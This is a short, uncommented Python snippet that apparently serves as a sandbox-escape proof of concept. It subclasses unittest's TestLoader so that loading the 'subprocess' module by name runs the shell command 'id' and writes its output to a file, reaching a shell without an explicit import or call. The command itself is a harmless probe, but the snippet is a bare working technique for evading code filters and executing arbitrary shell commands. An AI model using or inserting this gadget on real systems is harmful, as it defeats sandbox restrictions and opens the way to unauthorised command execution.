import unittest
class L(unittest.TestLoader):
    def loadTestsFromModule(self, module, *a, **k):
        module.getoutput("id>pf")
        return unittest.TestSuite()
L().loadTestsFromName("subprocess")
